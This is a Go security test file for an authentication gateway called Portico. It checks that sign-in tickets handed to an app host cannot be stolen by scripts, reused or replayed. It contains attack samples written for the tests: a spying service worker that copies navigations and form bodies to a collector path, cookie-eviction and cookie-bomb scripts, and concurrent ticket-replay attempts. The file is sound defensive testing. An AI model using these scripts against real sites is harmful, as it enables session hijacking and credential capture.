package security

import (
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"portico/internal/config"
	"portico/internal/secret"
)

const wikiHost = "wiki.test"

// wiki is an app at a host of its own. An attacker's scripts run in it.
type wiki struct {
	*httptest.Server
	mu    sync.Mutex
	taken []string // the requests that its service worker sent to the attacker
}

// spyWorker is a service worker that copies every navigation and then lets it
// pass.
const spyWorker = `
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => {
	if (e.request.mode !== "navigate") return;
	const copy = e.request.clone();
	e.respondWith((async () => {
		const said = JSON.stringify({ url: copy.url, body: copy.method === "POST" ? await copy.text() : "" });
		const answer = await fetch(e.request);
		await fetch("/public/taken", { method: "POST", body: said });
		return answer;
	})());
});`

func newWiki(t *testing.T) *wiki {
	t.Helper()
	a := &wiki{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/public/taken":
			text, _ := io.ReadAll(r.Body)
			a.mu.Lock()
			a.taken = append(a.taken, string(text))
			a.mu.Unlock()
			return
		case "/worker.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, spyWorker)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<!doctype html><title>wiki</title><p>who: "+r.Header.Get("X-Portico-User")+"</p>")
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *wiki) serves(c *config.Config) {
	up, _ := url.Parse(a.URL)
	c.Apps = []config.App{
		{Name: "wiki", Host: wikiHost, Path: "/", Upstream: up, Rules: []string{"public /public/*", "public GET /worker.js", "signed-in /*"}, Key: "app.1"},
		{Name: "other", Host: "other.test", Path: "/", Upstream: up, Rules: []string{"signed-in /*"}, Key: "app.2"},
	}
}

// at sends a request to another host of the site, with the visitor's cookies
// for that host.
func (v *visitor) at(host, method, target, body string) *answer {
	v.Helper()
	h := http.Header{"Host": {host}, "Accept": {"text/html"}, "Sec-Fetch-Mode": {"navigate"}, "Sec-Fetch-Dest": {"document"}}
	if method == http.MethodPost {
		h["Content-Type"], h["Origin"] = []string{"application/x-www-form-urlencoded"}, []string{"null"}
	}
	return v.do(method, target, body, h).keep()
}

// tries does everything that an attacker can do with a text that may contain a
// ticket. It requests the text as an address and sends it as a form, with a
// cookie of the attacker's own browser. It reports whether the app opened.
func (v *visitor) tries(text string) bool {
	v.Helper()
	target, body := text, ""
	if u, err := url.Parse(text); err == nil {
		target, body = u.RequestURI(), u.RawQuery
	}
	if strings.HasPrefix(text, "{") { // a request that the worker copied
		var copied struct{ URL, Body string }
		_ = json.Unmarshal([]byte(text), &copied)
		u, _ := url.Parse(copied.URL)
		target, body = u.RequestURI(), copied.Body
	}
	if !strings.HasPrefix(target, "/") {
		return false
	}
	for _, method := range []string{"GET", "POST"} {
		sent := ""
		if method == "POST" {
			sent = body
		}
		next := v.at(wikiHost, method, target, sent)
		for range 4 {
			to, err := url.Parse(next.header.Get("Location"))
			if err != nil || next.header.Get("Location") == "" || to.Host != "" && to.Host != wikiHost {
				break
			}
			next = v.at(wikiHost, "GET", to.RequestURI(), "")
		}
	}
	return v.at(wikiHost, "GET", "/app/x", "").status == http.StatusOK
}

// readable returns the URLs that a script of the app can read.
const readable = `JSON.stringify([...navigation.entries().map(e => e.url), ...performance.getEntries().map(e => e.name), location.href, document.referrer])`

// A script of one app starts the redirect to the app's host with a bind that
// the attacker knows. It then reads all it can. Nothing that it reads may sign
// the attacker in. The browser is real.
func TestSEC235_TicketsCannotBeStolenByScripts(t *testing.T) {
	announce(t)
	t.Parallel()
	s := start(t, newWiki(t).serves)
	c := s.browseSignedIn()
	for name, attack := range map[string]struct {
		bind  func(*visitor) string // the attacker knows its nonce
		first string                // the script runs it first
	}{
		"a bind of its own":       {ownBind, evict},
		"a bind of our host":      {hostBind, evict},
		"and cookies that refuse": {hostBind, evict + `for (let i = 0; i < 8; i++) document.cookie = "bomb" + i + "=" + "x".repeat(3000) + "; Path=/auth/; Secure";`},
	} {
		attacker := s.visitor()
		bind := attack.bind(attacker)
		c.visit("https://" + wikiHost + "/public/x")
		c.evaluate(attack.first + `"done"`)
		c.lands(s.origin + "/auth/enter?" + url.Values{"to": {"https://" + wikiHost + "/app/x"}, "bind": {bind}}.Encode())
		var found []string
		for _, page := range []string{"", "https://" + wikiHost + "/public/y"} {
			if page != "" {
				c.visit(page)
			}
			if c.evaluate("location.host") != wikiHost {
				continue
			}
			var more []string
			if err := json.Unmarshal([]byte(c.evaluate(readable)), &more); err != nil {
				t.Fatal(err)
			}
			found = append(found, more...)
		}
		for _, text := range found {
			if attacker.tries(text) {
				t.Errorf("%s: %s opens the app to the attacker", name, text)
				break
			}
		}
		c.visit("https://" + wikiHost + "/public/x") // the browser may still be on its way
		c.evaluate(`for (const pair of document.cookie.split("; ")) document.cookie = pair.split("=")[0] + "=; Path=/; Secure; Max-Age=0"; for (let i = 0; i < 8; i++) document.cookie = "bomb" + i + "=; Path=/auth/; Secure; Max-Age=0"; "clean"`)
	}
	// The user is still signed in. A response of 431 may come first: it deletes the
	// cookies of the script that the browser has not deleted yet.
	c.lands("https://" + wikiHost + "/app/x")
	if c.evaluate(`location.pathname`) != "/app/x" {
		c.lands("https://" + wikiHost + "/app/x")
	}
	c.until(`location.pathname === "/app/x" && document.body.innerText.length > 6`)
}

// evict sets cookies until the browser drops ours.
const evict = `for (let i = 0; i < 400; i++) document.cookie = "evict" + i + "=1; Path=/; Secure";`

// ownBind returns a bind that any caller can compute: the hash of a nonce that
// it chose.
func ownBind(v *visitor) string {
	nonce := secret.Token()
	v.cookies[v.cookieName("crossing")] = nonce
	return hashOf(nonce)
}

// hostBind returns a bind that our own host made for the attacker's browser.
func hostBind(v *visitor) string {
	to, err := url.Parse(v.at(wikiHost, "GET", "/auth/enter?to=/app/x", "").header.Get("Location"))
	if err != nil || to.Query().Get("bind") == "" {
		v.Fatal("the app's host makes no bind")
	}
	return to.Query().Get("bind")
}

// hashOf returns a nonce as the bind parameter names it.
func hashOf(nonce string) string { return base64.RawURLEncoding.EncodeToString(secret.Hash(nonce)) }

// signInByAPI signs in by a script of the open page.
func (c *chromium) signInByAPI(address string) {
	c.t.Helper()
	sent := encode(object{"email": address, "password": good})
	status := c.evaluate(`fetch("/auth/api/signin", { method: "POST", headers: { "Content-Type": "application/json" }, body: ` + encodeText(sent) + ` }).then(r => r.status)`)
	if status != "200" {
		c.t.Fatalf("the sign-in gets %s", status)
	}
}

// browseSignedIn starts a Chromium whose user is signed in at the public host.
func (s *site) browseSignedIn() *chromium {
	s.Helper()
	address := fresh("v")
	s.operator(address, good)
	c := s.browse()
	c.visit(s.origin + "/auth/signin")
	c.signInByAPI(address)
	return c
}

// lands loads an address and waits for its redirects.
func (c *chromium) lands(target string) {
	c.t.Helper()
	c.call("Page.navigate", object{"url": target}, nil)
	c.settle()
}

// settle waits until the browser navigates no more.
func (c *chromium) settle() {
	c.t.Helper()
	last, same := "", 0
	for range 600 {
		now, err := c.value(`document.readyState + " " + location.href`)
		if same++; err != nil || now != last || !strings.HasPrefix(now, "complete ") {
			last, same = now, 0
		}
		if same == 6 {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	c.t.Fatalf("the browser keeps navigating: %s", last)
}

// A service worker of the app reads every navigation. Nothing that it reads may
// work a second time. Portico cannot help against a worker that withholds a
// ticket: see docs/decisions/0020-sessions-on-app-hosts.md.
func TestSEC236_AWorkerOfTheAppCannotUseATicketAgain(t *testing.T) {
	announce(t)
	t.Parallel()
	app := newWiki(t)
	s := start(t, app.serves)
	address := fresh("v")
	s.operator(address, good)
	c := s.browse()
	c.visit("https://" + wikiHost + "/public/x")
	c.evaluate(`navigator.serviceWorker.register("/worker.js").catch(e => document.title = e); "asked"`)
	c.until(`navigator.serviceWorker.controller !== null`)
	c.visit(s.origin + "/auth/signin")
	c.signInByAPI(address)
	attacker := s.visitor()
	c.lands(s.origin + "/auth/enter?" + url.Values{"to": {"https://" + wikiHost + "/app/x"}, "bind": {hostBind(attacker)}}.Encode())
	c.lands("https://" + wikiHost + "/app/x") // the user's own navigation
	app.mu.Lock()
	taken := append([]string(nil), app.taken...)
	app.mu.Unlock()
	if len(taken) == 0 {
		t.Fatal("the worker has seen no navigation")
	}
	for _, text := range taken {
		if attacker.tries(text) {
			t.Errorf("the attacker gets in with %.300s", text)
			break
		}
	}
}

// A ticket must work once, for seconds, in one browser, at one host and in one
// spelling. Each refusal uses it up.
func TestSEC237_ATicketIsTakenOnce(t *testing.T) {
	announce(t)
	t.Parallel()
	s := start(t, newWiki(t).serves)
	owner := s.staff()
	begin := func() (v *visitor, form url.Values) {
		v = s.visitor()
		v.cookies[v.cookieName("session")] = owner.cookie("session")
		page := v.at("portico.test", "GET", "/auth/enter?"+url.Values{"to": {"https://" + wikiHost + "/app/x"}, "bind": {hostBind(v)}}.Encode(), "").must(200)
		delete(v.cookies, v.cookieName("session"))
		_, rest, _ := strings.Cut(page.body, `name="ticket" value="`)
		ticket, _, ok := strings.Cut(rest, `"`)
		if !ok || strings.Contains(page.header.Get("Location"), ticket) || page.header.Get("Referrer-Policy") != "no-referrer" {
			t.Fatalf("the page with the ticket: %v %s", page.header, page.body)
		}
		return v, url.Values{"ticket": {ticket}, "to": {"/app/x"}}
	}
	// arrives reports whether a form lets a browser in.
	arrives := func(v *visitor, form url.Values) bool {
		a := v.at(wikiHost, "POST", "/auth/arrive", form.Encode())
		if a.status == http.StatusSeeOther {
			v.at(wikiHost, "GET", a.header.Get("Location"), "")
		}
		return v.at(wikiHost, "GET", "/app/x", "").status == http.StatusOK
	}
	if v, form := begin(); !arrives(v, form) {
		t.Fatal("the right browser is not let in")
	} else if again := s.visitor(); arrives(again, form) {
		t.Error("the ticket opens a second time")
	}
	for name, wrong := range map[string]func(v *visitor, form url.Values){
		"another browser": func(_ *visitor, form url.Values) { arrives(s.visitor(), form) },
		"no cookie": func(v *visitor, form url.Values) {
			v.do("POST", "/auth/arrive", form.Encode(), http.Header{"Host": {wikiHost}, "Cookie": {}, "Content-Type": {"application/x-www-form-urlencoded"}})
		},
	} {
		v, form := begin()
		wrong(v, form)
		if arrives(v, form) {
			t.Errorf("after %s the right one is let in by the same ticket", name)
		}
	}
	for name, change := range map[string]func(form url.Values){
		"a line break": func(f url.Values) { f.Set("ticket", f.Get("ticket")+"\n") },
		"other bits at the end": func(f url.Values) {
			ticket := f.Get("ticket")
			f.Set("ticket", ticket[:len(ticket)-1]+string(nextInAlphabet(ticket[len(ticket)-1])))
		},
		"padding": func(f url.Values) { f.Set("ticket", f.Get("ticket")+"=") },
	} {
		v, form := begin()
		spelled := url.Values{"ticket": {form.Get("ticket")}, "to": {"/app/x"}}
		change(spelled)
		if spelled.Get("ticket") == form.Get("ticket") {
			t.Fatal(name)
		}
		if arrives(v, form); arrives(s.visitor(), spelled) || arrives(v.without("session"), spelled) {
			t.Errorf("%s makes a second ticket", name)
		}
	}
	v, form := begin()
	var let sync.WaitGroup
	admissions := make(chan string, 20)
	for range cap(admissions) {
		let.Go(func() {
			a, err := v.try("POST", "/auth/arrive", form.Encode(), http.Header{"Host": {wikiHost}, "Cookie": {}, "Content-Type": {"application/x-www-form-urlencoded"}})
			if err == nil && a.header.Get("Set-Cookie") != "" {
				admissions <- a.header.Get("Set-Cookie")
			}
		})
	}
	let.Wait()
	if n := len(admissions); n != 1 {
		t.Errorf("of %d at once %d are admitted", cap(admissions), n)
	}
	v, form = begin()
	s.clock.Advance(time.Minute)
	if arrives(v, form) {
		t.Error("the ticket lasts for a minute")
	}
}

// without deletes a cookie.
func (v *visitor) without(purpose string) *visitor {
	delete(v.cookies, v.cookieName(purpose))
	return v
}

// nextInAlphabet returns the next character of base64. It differs from the
// given one only in the last bits.
func nextInAlphabet(c byte) byte {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	return alphabet[(strings.IndexByte(alphabet, c)+1)%len(alphabet)]
}

// Back must lead to the page before the app, not into the redirects in between.
func TestSEC238_BackLeadsOverTheWay(t *testing.T) {
	announce(t)
	t.Parallel()
	s := start(t, newWiki(t).serves)
	c := s.browseSignedIn()
	c.lands("https://" + wikiHost + "/public/x")
	at := func(page string) string {
		return `location.host + location.pathname === "` + wikiHost + page + `" && document.readyState === "complete"`
	}
	_, _ = c.value(`location.href = "/app/x"`) // an error when the page is gone before the answer
	c.until(at("/app/x"))
	if urls := c.evaluate(readable); strings.Contains(urls, "ticket") || strings.Contains(urls, "/auth/") {
		t.Errorf("the app can read %s", urls)
	}
	_, _ = c.value(`history.back()`)
	c.until(at("/public/x"))
}
